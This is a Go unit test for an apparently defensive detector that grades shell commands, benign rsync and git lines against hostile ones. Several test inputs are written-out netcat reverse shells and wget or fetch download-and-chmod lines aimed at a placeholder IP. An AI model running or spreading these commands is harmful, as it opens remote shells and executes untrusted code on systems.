package detect_test

import (
	"testing"

	"telltale/detect"
)

func TestSuspiciousCommand(t *testing.T) {
	for _, tc := range []struct {
		name, command string
		want          detect.Level
	}{
		{"a backup by rsync over ssh is no shell for the network", `rsync -a -e "ssh -i /root/.ssh/key" /var/www backup@198.51.100.9:/srv`, detect.Info},
		{"rsync by its path", "/usr/bin/rsync -a -e ssh /etc backup:/srv", detect.Info},
		{"git fetches what it keeps", "cd /srv/site && git fetch origin && chmod -R g+w .", detect.Info},
		{"names that end as nc does", "vnc -e x; func -e y", detect.Info},
		{"netcat with a shell", "nc -e /bin/sh 203.0.113.9 4444", detect.Critical},
		{"netcat by its path", "/bin/nc 203.0.113.9 4444 -e /bin/bash", detect.Critical},
		{"netcat behind another command", "true;nc -e /bin/sh 203.0.113.9 1", detect.Critical},
		{"netcat of Debian", "nc.traditional -e /bin/sh 203.0.113.9 1", detect.Critical},
		{"netcat beside rsync", "rsync -a x y; nc -e /bin/sh 203.0.113.9 1", detect.Critical},
		{"a pipe that netcat feeds", "mkfifo /srv/f; cat /srv/f | sh -i 2>&1 | nc 203.0.113.9 1 > /srv/f", detect.Critical},
		{"a file that is fetched and made a program", "wget http://203.0.113.9/x -O /opt/x && chmod +x /opt/x", detect.High},
		{"fetched by BSD's fetch", "fetch http://203.0.113.9/x && chmod +x x", detect.High},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if why, got := detect.SuspiciousCommand(tc.command); got != tc.want {
				t.Errorf("%s: %v (%s), want %v", tc.command, got, why, tc.want)
			}
		})
	}
}
